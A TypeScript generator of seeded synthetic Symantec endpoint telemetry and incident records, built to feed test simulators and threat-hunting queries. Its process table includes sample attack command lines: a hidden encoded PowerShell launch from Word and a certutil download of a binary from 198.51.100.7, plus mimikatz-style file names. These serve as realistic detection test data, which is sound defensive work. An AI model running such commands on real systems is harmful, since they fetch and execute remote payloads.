/**
 * Seeded generator of SES / ICDm endpoint telemetry, shaped like the events the Event Stream API, the
 * Data Bucket export and Event Search return (reference: event-apis-ocsf-peers.md §1.4–1.6).
 *
 * Stable API (the stream, bucket and search simulators build on it):
 *
 *   const { events, truth } = generateTelemetry({ seed: 1, count: 5000, from, to });
 *
 * - `events` are sorted by `log_time` (the export order), ties by `time`, then `uuid`.
 * - Same options → byte-identical events (`JSON.stringify`), whatever else ran before.
 * - `truth` says what was generated: uuids by type_id, the incidents the detections raised, and
 *   the facts the hunting queries look for (process launches, files, connections).
 *
 * What the events look like (and why):
 * - Type mix: mostly severity-1 8001 process / 8003 file / 8006 registry / 8015 Windows event-log
 *   telemetry (the types seen in a production stream), some 8002 module / 8005 registry-key /
 *   8007 network, and rare detections 8027 (process) / 8031 (sandbox file) at severity ≥ 3. Every
 *   detection raises an incident: an 8075 creation record, one 8078 association per related event
 *   (the detection itself, sometimes earlier telemetry of the same device) and, later, sometimes 8076
 *   update / 8077 closure records. Incident records carry `log_name: "incident_db"` and `time` as
 *   epoch ms; every other event carries `time` as an ISO string, with millis (mostly) or without.
 * - `uuid` = `"<type_id>:<time-uuid>"`, unique within one generation (a counter in the node part)
 *   and, with a different seed, across generations; `event_id` = type_id × 1000 + disposition `id`.
 * - `log_time` is assigned in batches (up to 60 events share one value to the ms) and trails `time`
 *   by 15 s … 6 min for every event.
 * - Telemetry bodies are 2–6 KB (`actor.loaded_modules` pads to a per-event target); incident
 *   records are smaller (~1–2 KB).
 * - About 2 % of telemetry events lack one sub-object (`actor`, `process`, `file`, `connection`,
 *   `reg_value`, `user`, `device_networks`), as real payloads sometimes do; `truth.missing` lists them.
 * - About 38 % of process telemetry is the Symantec agent's own activity (`ccSvcHst.exe`).
 */
import { Prng } from './prng.ts';

/** One vendor-shaped ICD event. */
export type TelemetryEvent = Record<string, unknown> & {
  uuid: string;
  type_id: number;
  /** ISO 8601 (EDR telemetry) or epoch ms (incident_db records). */
  time: string | number;
  /** ISO 8601 with millis, batch-assigned. */
  log_time: string;
};

export interface TelemetryOptions {
  seed: number;
  /** Exact number of events returned (incident records included). */
  count: number;
  /** `time` of every event is within [from, to] (epoch ms); `log_time` may trail `to` by ≤ 6 min. */
  from: number;
  to: number;
  /** Probability that a generated event is a detection (8027/8031). Default 0.004. */
  detectionRate?: number;
  /** Probability that a telemetry event lacks one sub-object. Default 0.02. */
  missingRate?: number;
}

/** A process launch (8001): actor = parent, process = child. */
export interface ProcessFact {
  uuid: string;
  device_name: string;
  parent: string;
  child: string;
  sha256: string;
}

/** A file event (8003) or sandbox detection (8031) naming a file by hash. */
export interface FileFact {
  uuid: string;
  device_name: string;
  name: string;
  sha256: string;
  /** Epoch ms of the event's `time`. */
  time: number;
}

/** A network connection (8007). */
export interface ConnectionFact {
  uuid: string;
  device_name: string;
  dst_ip: string;
  dst_port: number;
  /** ICD `direction_id`: 0 unknown, 1 inbound, 2 outbound. */
  direction_id: number;
}

/** An incident raised by a detection, and its records. */
export interface IncidentFact {
  incident_uid: string;
  /** The detection (8027/8031) uuid that raised it. */
  detection: string;
  /** uuids of the 8075/8076/8077 records. */
  records: string[];
  /** uuids of the 8078 associations; each `ref_uid` names an event in `associated`. */
  associations: string[];
  /** uuids of the events the associations point to (the detection first). */
  associated: string[];
}

export interface TelemetryTruth {
  count: number;
  /** type_id → uuids, in event order. */
  uuidsByType: Record<number, string[]>;
  incidents: IncidentFact[];
  processes: ProcessFact[];
  files: FileFact[];
  connections: ConnectionFact[];
  /** Events generated without one sub-object: uuid → the missing key. */
  missing: Record<string, string>;
}

export interface TelemetryDataSet {
  events: TelemetryEvent[];
  truth: TelemetryTruth;
}

const SECOND = 1000;
const MINUTE = 60 * SECOND;
const MIN_LAG = 15 * SECOND;
const MAX_LAG = 6 * MINUTE;
const MAX_BATCH = 60;

/** Telemetry type mix (the production stream is dominated by 8001/8003/8006/8015). */
const TELEMETRY_TYPES = [8001, 8003, 8006, 8015, 8002, 8005, 8007] as const;
const TELEMETRY_WEIGHTS = [30, 24, 20, 12, 5, 4, 5] as const;

interface Device {
  device_uid: string;
  device_name: string;
  device_ip: string;
  device_mac: string;
  device_os_name: string;
  device_os_type_id: number;
  device_os_ver: string;
  device_domain: string;
  device_group: string;
  users: string[];
}

const OS = [
  { name: 'Windows 10 Enterprise', type_id: 100, ver: '10.0.19045' },
  { name: 'Windows 11 Enterprise', type_id: 100, ver: '10.0.22631' },
  { name: 'Windows Server 2019 Datacenter', type_id: 100, ver: '10.0.17763' },
  { name: 'Windows Server 2022 Standard', type_id: 100, ver: '10.0.20348' },
] as const;
const USERS = ['SYSTEM', 'alice', 'bob', 'carol', 'svc_backup', 'jdoe', 'Administrator', 'LOCAL SERVICE'];
const DOMAINS = ['CORP', 'corp.example.com', 'ad.contoso.local'] as const;

/** Parent → child launches: the common ones dominate, the rare ones are what a hunt looks for. */
const PROCESS_PAIRS: readonly { parent: string; child: string; cmd: string; weight: number }[] = [
  {
    parent: 'ccSvcHst.exe',
    child: 'ccSvcHst.exe',
    cmd: '"ccSvcHst.exe" /s "Symantec Endpoint Protection" /m "C:\\Program Files\\Symantec\\Symantec Endpoint Protection\\14.3.9816.1000.105\\Bin64\\sms.dll" /prefetch:1',
    weight: 24,
  },
  { parent: 'ccSvcHst.exe', child: 'SymCorpUI.exe', cmd: '"SymCorpUI.exe" -h', weight: 14 },
  {
    parent: 'explorer.exe',
    child: 'chrome.exe',
    cmd: '"chrome.exe" --type=renderer --lang=en-US',
    weight: 14,
  },
  { parent: 'services.exe', child: 'svchost.exe', cmd: 'svchost.exe -k netsvcs -p -s Schedule', weight: 12 },
  { parent: 'explorer.exe', child: 'OUTLOOK.EXE', cmd: '"OUTLOOK.EXE" /recycle', weight: 8 },
  { parent: 'svchost.exe', child: 'taskhostw.exe', cmd: 'taskhostw.exe Install $(Arg0)', weight: 8 },
  {
    parent: 'explorer.exe',
    child: 'WINWORD.EXE',
    cmd: '"WINWORD.EXE" /n "C:\\Users\\alice\\Documents\\Q3.docx"',
    weight: 5,
  },
  {
    parent: 'cmd.exe',
    child: 'conhost.exe',
    cmd: '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
    weight: 5,
  },
  { parent: 'explorer.exe', child: 'cmd.exe', cmd: '"cmd.exe"', weight: 3 },
  {
    parent: 'WINWORD.EXE',
    child: 'powershell.exe',
    cmd: 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
    weight: 0.3,
  },
  {
    parent: 'EXCEL.EXE',
    child: 'cmd.exe',
    cmd: 'cmd.exe /c certutil.exe -urlcache -split -f http://198.51.100.7/a.bin a.bin',
    weight: 0.2,
  },
  { parent: 'w3wp.exe', child: 'whoami.exe', cmd: 'whoami.exe /all', weight: 0.2 },
];

const FILE_NAMES = [
  'report.docx',
  'setup.msi',
  'update.exe',
  'data.csv',
  'invoice.pdf',
  'payload.dll',
  'backup.zip',
  'notes.txt',
];
const FOLDERS = [
  'C:\\Users\\{u}\\Downloads',
  'C:\\Users\\{u}\\Documents',
  'C:\\Windows\\Temp',
  'C:\\ProgramData\\Vendor',
];
const MALICIOUS = ['invoice_0423.pdf.exe', 'mimikatz.exe', 'svchost32.exe', 'payload.dll'];

const REG_KEYS = [
  'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run',
  'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs',
  'HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\SepMasterService',
  'HKEY_LOCAL_MACHINE\\SOFTWARE\\Symantec\\Symantec Endpoint Protection\\AV',
];

const DESTINATIONS: readonly { ip: string; port: number; weight: number }[] = [
  { ip: '52.84.150.11', port: 443, weight: 30 },
  { ip: '142.250.74.78', port: 443, weight: 25 },
  { ip: '10.0.0.53', port: 53, weight: 15 },
  { ip: '10.0.1.20', port: 445, weight: 8 },
  { ip: '93.184.216.34', port: 80, weight: 8 },
  { ip: '10.0.2.15', port: 3389, weight: 3 },
  { ip: '198.51.100.7', port: 8080, weight: 1 },
];

const WINDOWS_EVENTS = [
  { id: 4624, name: 'An account was successfully logged on', facility: 'Security' },
  { id: 4688, name: 'A new process has been created', facility: 'Security' },
  { id: 4662, name: 'An operation was performed on an object', facility: 'LDAP' },
  { id: 7045, name: 'A service was installed in the system', facility: 'System' },
] as const;

const MODULES = [
  'ntdll.dll',
  'kernel32.dll',
  'KERNELBASE.dll',
  'user32.dll',
  'advapi32.dll',
  'msvcrt.dll',
  'sechost.dll',
  'rpcrt4.dll',
  'combase.dll',
  'ole32.dll',
  'shell32.dll',
  'ws2_32.dll',
  'crypt32.dll',
  'bcrypt.dll',
  'wintrust.dll',
  'gdi32.dll',
  'oleaut32.dll',
  'shlwapi.dll',
  'imm32.dll',
  'version.dll',
];

/** A v1 time-uuid shape (`587a2410-0909-11ef-deb7-0000061b19b4`); the node part holds a counter. */
function timeUuid(prng: Prng, ms: number, salt: number, counter: number): string {
  const low = ((ms * 10_000) >>> 0).toString(16).padStart(8, '0');
  const mid = (Math.floor(ms / 429_497) & 0xffff).toString(16).padStart(4, '0');
  const node = ((salt & 0xffff) * 0x100000000 + counter).toString(16).padStart(12, '0');
  return `${low}-${mid}-11ef-${prng.hex(4)}-${node}`;
}

function iso(ms: number, withMillis: boolean): string {
  const s = new Date(ms).toISOString();
  return withMillis ? s : s.replace(/\.\d{3}Z$/, 'Z');
}

function makeDevices(prng: Prng, n: number): Device[] {
  const out: Device[] = [];
  for (let i = 0; i < n; i++) {
    const os = prng.pick(OS);
    const mac = Array.from({ length: 6 }, () => prng.hex(2)).join(':');
    out.push({
      device_uid: prng.b64id(),
      device_name: `${prng.pick(['WS', 'LAPTOP', 'SRV', 'DESKTOP'])}-${prng.hex(6).toUpperCase()}`,
      device_ip: `10.${prng.int(1, 30)}.${prng.int(0, 255)}.${prng.int(1, 254)}`,
      device_mac: mac,
      device_os_name: os.name,
      device_os_type_id: os.type_id,
      device_os_ver: os.ver,
      device_domain: prng.pick(DOMAINS),
      device_group: `Default/${prng.pick(['Servers', 'Finance', 'Engineering', 'Sales'])}`,
      users: [prng.pick(USERS.slice(1, 6)), 'SYSTEM'],
    });
  }
  return out;
}

interface Ctx {
  prng: Prng;
  salt: number;
  counter: number;
  customer_uid: string;
  domain_uid: string;
  devices: Device[];
  /** name → sha256 for the well-known files (the same binary has the same hash everywhere). */
  hashes: Map<string, string>;
}

function hashOf(ctx: Ctx, name: string): string {
  let h = ctx.hashes.get(name);
  if (!h) {
    h = ctx.prng.hex(64);
    ctx.hashes.set(name, h);
  }
  return h;
}

function fileObject(ctx: Ctx, folder: string, name: string, sha2: string) {
  const p = ctx.prng;
  return {
    name,
    folder,
    path: `${folder}\\${name}`,
    sha2,
    md5: p.hex(32),
    size: p.int(4_096, 8_000_000),
    type_id: 1,
    attribute_ids: p.chance(0.2) ? [1, 5] : [1],
    created: iso(Date.UTC(2024, p.int(0, 11), p.int(1, 28)), true),
    modified: iso(Date.UTC(2025, p.int(0, 11), p.int(1, 28)), true),
    signature_company_name: p.chance(0.8) ? 'Microsoft Corporation' : '',
    signature_value_ids: [3],
    rep_prevalence_band: p.int(1, 9),
    rep_score_band: p.int(1, 5),
  };
}

function processObject(
  ctx: Ctx,
  exe: string,
  cmd: string,
  user: string,
  domain: string,
): Record<string, unknown> & { file: ReturnType<typeof fileObject>; start_time?: string } {
  const p = ctx.prng;
  const folder =
    exe === 'ccSvcHst.exe' || exe === 'SymCorpUI.exe'
      ? 'C:\\Program Files\\Symantec\\Symantec Endpoint Protection\\14.3.9816.1000.105\\Bin64'
      : 'C:\\Windows\\System32';
  return {
    pid: p.int(400, 40_000),
    tid: p.int(400, 40_000),
    uid: p.uuid().toUpperCase(),
    cmd_line: cmd,
    integrity_id: p.pick([3, 4, 5]),
    file: fileObject(ctx, folder, exe, hashOf(ctx, exe)),
    user: { name: user, domain, sid: `S-1-5-21-${p.int(1e8, 9e8)}-${p.int(1e8, 9e8)}-${p.int(1000, 9999)}` },
    session_id: p.int(0, 5),
  };
}

function baseEvent(ctx: Ctx, device: Device, typeId: number, id: number, ms: number, withMillis: boolean) {
  const p = ctx.prng;
  ctx.counter++;
  return {
    type_id: typeId,
    id,
    event_id: typeId * 1000 + id,
    category_id: 5,
    severity_id: 1,
    type: 'event_query_results',
    feature_name: 'DETECTION_RESPONSE',
    feature_uid: 'C9E1EC3A-4E2F-4C8B-8D0C-27C1D2F6B5E1',
    feature_ver: '2.3.1',
    product_name: 'Symantec Endpoint Security',
    product_uid: '41B1F990-1234-43F9-98C5-48D56B1BD8B9',
    product_ver: '14.3.9816.1000',
    customer_uid: ctx.customer_uid,
    domain_uid: ctx.domain_uid,
    device_uid: device.device_uid,
    device_name: device.device_name,
    device_ip: device.device_ip,
    device_mac: device.device_mac,
    device_domain: device.device_domain,
    device_group: device.device_group,
    device_os_name: device.device_os_name,
    device_os_type_id: device.device_os_type_id,
    device_os_ver: device.device_os_ver,
    device_networks: [{ ipv4: device.device_ip, mac: device.device_mac }],
    device_time: ms,
    timezone: 0,
    time: iso(ms, withMillis),
    log_time: '',
    uuid: `${typeId}:${timeUuid(p, ms, ctx.salt, ctx.counter)}`,
    log_name: `fdr_4_t2_${new Date(ms).toISOString().slice(0, 10)}`,
    event_data_type: 'fdr',
    product_data: { sep_hw_uid: p.hex(32).toUpperCase(), sep_domain_uid: '' },
  };
}

function telemetryEvent(ctx: Ctx, typeId: number, ms: number, truth: TelemetryTruth): TelemetryEvent {
  const p = ctx.prng;
  const device = p.pick(ctx.devices);
  const user = p.pick(device.users);
  const withMillis = !p.chance(0.1);
  // The device clock and `time` share the second when `time` has no millis.
  const t = withMillis ? ms : Math.floor(ms / SECOND) * SECOND;
  const pair = p.weighted(
    PROCESS_PAIRS,
    PROCESS_PAIRS.map((x) => x.weight),
  );
  const actorExe =
    typeId === 8001
      ? pair.parent
      : p.weighted(['ccSvcHst.exe', 'explorer.exe', 'svchost.exe', 'powershell.exe'], [38, 30, 25, 7]);
  const actor = processObject(ctx, actorExe, `"${actorExe}"`, user, device.device_domain);
  const base = {
    ...baseEvent(ctx, device, typeId, 1, t, withMillis),
    user_name: user,
    user: { name: user, domain: device.device_domain },
    actor,
  };
  let event: Record<string, unknown>;
  switch (typeId) {
    case 8001: {
      const proc = processObject(ctx, pair.child, pair.cmd, user, device.device_domain);
      proc.start_time = iso(t, true);
      event = { ...base, id: 1, event_id: 8001001, message: `Process ${pair.child} launched`, process: proc };
      truth.processes.push({
        uuid: base.uuid,
        device_name: device.device_name,
        parent: pair.parent,
        child: pair.child,
        sha256: proc.file.sha2,
      });
      break;
    }
    case 8002: {
      const mod = p.pick(MODULES);
      event = {
        ...base,
        id: 1,
        event_id: 8002001,
        message: `Module ${mod} loaded`,
        module: {
          ...fileObject(ctx, 'C:\\Windows\\System32', mod, hashOf(ctx, mod)),
          load_type_id: 1,
          base_address: `0x${p.hex(12)}`,
        },
      };
      break;
    }
    case 8003: {
      // Mostly files seen before (same hash); some new ones, which a first-seen hunt finds.
      const fresh = p.chance(0.15);
      const name = p.pick(FILE_NAMES);
      const sha2 = fresh ? p.hex(64) : hashOf(ctx, name);
      const folder = p.pick(FOLDERS).replace('{u}', user);
      const id = p.weighted([1, 2, 3, 4], [50, 10, 30, 10]); // create, delete, open, write (ICD file activity)
      event = {
        ...base,
        id,
        event_id: 8003000 + id,
        message: `File ${name} ${['', 'created', 'deleted', 'opened', 'modified'][id]}`,
        file: fileObject(ctx, folder, name, sha2),
        analysis: JSON.stringify({ reputation: p.int(-100, 100), prevalence: p.int(1, 9) }),
      };
      truth.files.push({ uuid: base.uuid, device_name: device.device_name, name, sha256: sha2, time: t });
      break;
    }
    case 8005:
    case 8006: {
      const key = p.pick(REG_KEYS);
      const name = p.pick(['Updater', 'Version', 'Start', 'MRUListEx', 'DefLastUpdate']);
      const data = p.pick(['C:\\Program Files\\Vendor\\upd.exe', '2', '0x00000004', '14.3.9816.1000']);
      event =
        typeId === 8005
          ? {
              ...base,
              id: 1,
              event_id: 8005001,
              message: 'Registry key created',
              reg_key: { path: `${key}\\${p.hex(4)}` },
            }
          : {
              ...base,
              id: 2,
              event_id: 8006002,
              message: 'Registry value set',
              reg_key: { path: key },
              reg_value: { path: `${key}\\${name}`, name, data, type_id: 1 },
              reg_value_result: { data },
            };
      break;
    }
    case 8007: {
      const dst = p.weighted(
        DESTINATIONS,
        DESTINATIONS.map((d) => d.weight),
      );
      const direction = p.chance(0.9) ? 2 : 1;
      const srcPort = p.int(49_152, 65_535);
      event = {
        ...base,
        id: 1,
        event_id: 8007001,
        message: `Connection ${direction === 2 ? 'to' : 'from'} ${dst.ip}:${dst.port}`,
        connection: {
          src_ip: direction === 2 ? device.device_ip : dst.ip,
          src_port: direction === 2 ? srcPort : dst.port,
          dst_ip: direction === 2 ? dst.ip : device.device_ip,
          dst_port: direction === 2 ? dst.port : srcPort,
          direction_id: direction,
          protocol_id: dst.port === 53 ? 17 : 6,
          bytes_upload: p.int(100, 200_000),
          bytes_download: p.int(100, 5_000_000),
          ether_type: 2048,
          local: dst.ip.startsWith('10.'),
          src_mac: device.device_mac,
        },
      };
      if (direction === 2)
        truth.connections.push({
          uuid: base.uuid,
          device_name: device.device_name,
          dst_ip: dst.ip,
          dst_port: dst.port,
          direction_id: direction,
        });
      else
        truth.connections.push({
          uuid: base.uuid,
          device_name: device.device_name,
          dst_ip: device.device_ip,
          dst_port: srcPort,
          direction_id: direction,
        });
      break;
    }
    default: {
      // 8015: Windows event-log / LDAP telemetry, `data` a stringified Windows event.
      const w = p.pick(WINDOWS_EVENTS);
      event = {
        ...base,
        id: 1,
        event_id: 8015001,
        message: w.name,
        source: { facility: w.facility, facility_uid: String(w.id) },
        ref_event: w.id,
        ref_event_name: w.name,
        data: JSON.stringify({
          SubjectUserName: user,
          TargetDomainName: device.device_domain,
          IpAddress: device.device_ip,
          LogonType: p.pick([2, 3, 5, 10]),
          ProcessName: `C:\\Windows\\System32\\${actorExe}`,
        }),
      };
    }
  }
  return event as TelemetryEvent;
}

function detectionEvent(ctx: Ctx, ms: number, device: Device, truth: TelemetryTruth): TelemetryEvent {
  const p = ctx.prng;
  const user = p.pick(device.users);
  const t = ms;
  const sandbox = p.chance(0.5);
  const name = p.pick(MALICIOUS);
  const folder = p.pick(FOLDERS).replace('{u}', user);
  const sha2 = hashOf(ctx, `malicious:${name}`);
  const severity = p.weighted([3, 4, 5], [3, 4, 2]);
  const actor = processObject(ctx, 'explorer.exe', '"explorer.exe"', user, device.device_domain);
  if (sandbox) {
    const id = p.pick([12, 14]);
    const e = {
      ...baseEvent(ctx, device, 8031, id, t, true),
      category_id: 1,
      severity_id: severity,
      type: 'sandbox_file_detection',
      feature_name: 'SANDBOX',
      message: `Sandbox result for the '${name}' file is malicious.`,
      status_id: 1,
      status_detail: 'File is malicious',
      user_name: user,
      user: { name: user, domain: device.device_domain },
      actor,
      threat: {
        provider: 'Cynic',
        type_id: 5,
        name: 'Threat Detected By Cynic',
        risk_id: p.pick([300, 400, 500]),
        id: 0,
      },
      file: fileObject(ctx, folder, name, sha2),
    };
    truth.files.push({ uuid: e.uuid, device_name: device.device_name, name, sha256: sha2, time: t });
    return e as TelemetryEvent;
  }
  const id = p.pick([1, 4, 15]);
  const cmd = p.pick(PROCESS_PAIRS.filter((x) => x.weight < 1)).cmd;
  const proc = processObject(ctx, name, cmd, user, device.device_domain);
  proc.file = fileObject(ctx, folder, name, sha2);
  return {
    ...baseEvent(ctx, device, 8027, id, t, true),
    category_id: 1,
    severity_id: severity,
    type: 'process_detection',
    feature_name: 'AGENT_SECURITY',
    message: `Threat Trojan.Gen.${p.int(1, 9)} detected in ${name}`,
    status_id: 1,
    user_name: user,
    user: { name: user, domain: device.device_domain },
    actor,
    process: proc,
    threat: {
      provider: p.pick(['SONAR', 'AV']),
      type_id: p.pick([1, 2, 3]),
      name: `Trojan.Gen.${p.int(1, 9)}`,
      risk_id: p.pick([300, 400, 500]),
      id: p.int(1, 99_999),
    },
    attacks: [
      { technique_uid: 'T1059', technique_name: 'Command and Scripting Interpreter', tactic_uids: [2] },
    ],
    edr_enriched_data: [{ rule_name: 'eSOC-T1059', rule_description: 'Command and Scripting Interpreter' }],
  } as TelemetryEvent;
}

function incidentRecord(
  ctx: Ctx,
  device: Device,
  typeId: number,
  ms: number,
  extra: Record<string, unknown>,
): TelemetryEvent {
  const p = ctx.prng;
  ctx.counter++;
  return {
    type_id: typeId,
    id: 4,
    event_id: typeId * 1000 + 4,
    category_id: 1,
    severity_id: 4,
    type: {
      8075: 'INCIDENT_CREATION',
      8076: 'INCIDENT_UPDATE',
      8077: 'INCIDENT_CLOSURE',
      8078: 'INCIDENT_ASSOCIATION',
    }[typeId],
    log_name: 'incident_db',
    product_name: 'Symantec Integrated Cyber Defense Manager',
    product_uid: '31B0C880-0229-49E8-94C5-48D56B1BD7B9',
    customer_uid: ctx.customer_uid,
    domain_uid: ctx.domain_uid,
    device_uid: device.device_uid,
    device_name: device.device_name,
    time: ms,
    device_time: ms,
    log_time: '',
    uuid: `${typeId}:${timeUuid(p, ms, ctx.salt, ctx.counter)}`,
    ...extra,
  } as TelemetryEvent;
}

/** Pads a telemetry event to a target size with the acting process's loaded modules (a real, bulky field). */
function pad(ctx: Ctx, event: TelemetryEvent): void {
  const target = ctx.prng.int(2_048, 6_144);
  const actor = event.actor as { loaded_modules?: string[] } | undefined;
  const holder = actor ?? (event.process as { loaded_modules?: string[] } | undefined) ?? undefined;
  const modules: string[] = [];
  if (holder) holder.loaded_modules = modules;
  let size = JSON.stringify(event).length;
  let i = 0;
  while (holder && size < target - 40) {
    const m = `C:\\Windows\\System32\\${MODULES[i % MODULES.length]}${i >= MODULES.length ? `.${Math.floor(i / MODULES.length)}.mui` : ''}`;
    modules.push(m);
    size += m.length + 5;
    i++;
  }
}

const DROPPABLE = ['actor', 'process', 'file', 'connection', 'reg_value', 'user', 'device_networks'] as const;

/** Generates `count` events over [from, to]; see the file header for the shapes and guarantees. */
export function generateTelemetry(options: TelemetryOptions): TelemetryDataSet {
  const { seed, from } = options;
  const count = Math.max(0, Math.floor(options.count));
  const to = Math.max(from, options.to);
  const detectionRate = options.detectionRate ?? 0.004;
  const missingRate = options.missingRate ?? 0.02;
  const prng = new Prng(seed ^ 0x7e1e3e7);
  const ctx: Ctx = {
    prng,
    salt: prng.int(0, 0xffff),
    counter: 0,
    customer_uid: prng.b64id(),
    domain_uid: prng.b64id(),
    devices: makeDevices(prng, 40),
    hashes: new Map(),
  };
  const truth: TelemetryTruth = {
    count: 0,
    uuidsByType: {},
    incidents: [],
    processes: [],
    files: [],
    connections: [],
    missing: {},
  };
  const times = Array.from({ length: count }, () => from + Math.floor(prng.next() * (to - from + 1))).sort(
    (a, b) => a - b,
  );
  const events: TelemetryEvent[] = [];
  // Incident records due later (updates/closures), by time.
  const pending: { at: number; make: () => TelemetryEvent }[] = [];
  const recent = new Map<string, TelemetryEvent[]>();
  for (const ms of times) {
    if (events.length >= count) break;
    pending.sort((a, b) => a.at - b.at);
    while (pending.length > 0 && (pending[0]?.at ?? Infinity) <= ms && events.length < count) {
      events.push((pending.shift() as { make: () => TelemetryEvent }).make());
    }
    if (events.length >= count) break;
    if (prng.chance(detectionRate) && count - events.length >= 3) {
      const device = prng.pick(ctx.devices);
      const detection = detectionEvent(ctx, ms, device, truth);
      pad(ctx, detection);
      events.push(detection);
      const uid = prng.uuid();
      const created = Math.min(to, ms + prng.int(2 * SECOND, 30 * SECOND));
      const url = `https://sep.securitycloud.symantec.com/v2/incidents/incidentListing/${uid}/details`;
      const common = {
        incident_uid: uid,
        incident_url: url,
        ref_incident_uid: 100_000 + truth.incidents.length,
        detection_type: detection.type_id === 8031 ? 'Sandbox' : 'Advanced Analytics',
      };
      const fact: IncidentFact = {
        incident_uid: uid,
        detection: detection.uuid,
        records: [],
        associations: [],
        associated: [detection.uuid],
      };
      const creation = incidentRecord(ctx, device, 8075, created, {
        ...common,
        state_id: 1,
        priority_id: 3,
        message: String(detection.message),
        created: new Date(created).toISOString(),
      });
      events.push(creation);
      fact.records.push(creation.uuid);
      const related = [detection, ...(recent.get(device.device_name) ?? []).slice(-2)];
      fact.associated = related.map((e) => e.uuid);
      for (const target of related) {
        if (events.length >= count) break;
        const assoc = incidentRecord(ctx, device, 8078, created, {
          ...common,
          ref_uid: target.uuid,
          ref_log_time: '',
          ref_log_name: target.log_name,
        });
        assoc.ref_time = target.time;
        events.push(assoc);
        fact.associations.push(assoc.uuid);
      }
      fact.associated = fact.associated.slice(0, fact.associations.length);
      const later = created + prng.int(5 * MINUTE, 3 * 60 * MINUTE);
      if (prng.chance(0.6) && later <= to) {
        const typeId = prng.chance(0.5) ? 8076 : 8077;
        pending.push({
          at: later,
          make: () => {
            const r = incidentRecord(ctx, device, typeId, later, {
              ...common,
              state_id: typeId === 8076 ? 2 : 4,
              resolution_id: typeId === 8077 ? 3 : 0,
            });
            fact.records.push(r.uuid);
            return r;
          },
        });
      }
      truth.incidents.push(fact);
      continue;
    }
    const typeId = prng.weighted(TELEMETRY_TYPES, TELEMETRY_WEIGHTS);
    const event = telemetryEvent(ctx, typeId, ms, truth);
    if (prng.chance(missingRate)) {
      const present = DROPPABLE.filter((k) => k in event);
      const key = present[prng.int(0, present.length - 1)];
      if (key) {
        delete event[key];
        truth.missing[event.uuid] = key;
        if (key === 'process') truth.processes = truth.processes.filter((f) => f.uuid !== event.uuid);
        if (key === 'file') truth.files = truth.files.filter((f) => f.uuid !== event.uuid);
        if (key === 'connection') truth.connections = truth.connections.filter((f) => f.uuid !== event.uuid);
      }
    }
    pad(ctx, event);
    events.push(event);
    const list = recent.get(String(event.device_name)) ?? [];
    list.push(event);
    if (list.length > 4) list.shift();
    recent.set(String(event.device_name), list);
  }
  pending.sort((a, b) => a.at - b.at);
  while (pending.length > 0 && events.length < count)
    events.push((pending.shift() as { make: () => TelemetryEvent }).make());
  // Top up when detections ended early (every slot must yield an event).
  while (events.length < count) {
    const event = telemetryEvent(ctx, prng.weighted(TELEMETRY_TYPES, TELEMETRY_WEIGHTS), to, truth);
    pad(ctx, event);
    events.push(event);
  }
  assignLogTimes(prng, events);
  for (const e of events) {
    if (e.ref_log_time === '') {
      const target = events.find((x) => x.uuid === e.ref_uid);
      e.ref_log_time = target?.log_time ?? '';
    }
  }
  events.sort(
    (a, b) => a.log_time.localeCompare(b.log_time) || eventMs(a) - eventMs(b) || a.uuid.localeCompare(b.uuid),
  );
  truth.count = events.length;
  for (const e of events) {
    const list = truth.uuidsByType[e.type_id] ?? [];
    list.push(e.uuid);
    truth.uuidsByType[e.type_id] = list;
  }
  const kept = new Set(events.map((e) => e.uuid));
  truth.processes = truth.processes.filter((f) => kept.has(f.uuid));
  truth.files = truth.files.filter((f) => kept.has(f.uuid));
  truth.connections = truth.connections.filter((f) => kept.has(f.uuid));
  return { events, truth };
}

/** Epoch ms of an event's `time` (ISO string or epoch ms). */
export function eventMs(event: { time: unknown }): number {
  return typeof event.time === 'number' ? event.time : Date.parse(String(event.time));
}

/**
 * Batches: a batch starts at the earliest unassigned event with a lag of 15 s … 6 min and takes
 * every later event (≤ 60) whose own lag stays ≥ 15 s, so all lags are within [15 s, 6 min].
 */
function assignLogTimes(prng: Prng, events: TelemetryEvent[]): void {
  const order = events.map((e, i) => ({ i, ms: eventMs(e) })).sort((a, b) => a.ms - b.ms || a.i - b.i);
  let k = 0;
  while (k < order.length) {
    const first = order[k] as { ms: number };
    const lag = prng.weighted([prng.int(MIN_LAG, 60 * SECOND), prng.int(60 * SECOND, MAX_LAG)], [3, 1]);
    const logMs = first.ms + lag;
    const size = prng.int(1, MAX_BATCH);
    let taken = 0;
    while (k < order.length && taken < size && (order[k] as { ms: number }).ms <= logMs - MIN_LAG) {
      const e = events[(order[k] as { i: number }).i] as TelemetryEvent;
      e.log_time = new Date(logMs).toISOString();
      k++;
      taken++;
    }
  }
}
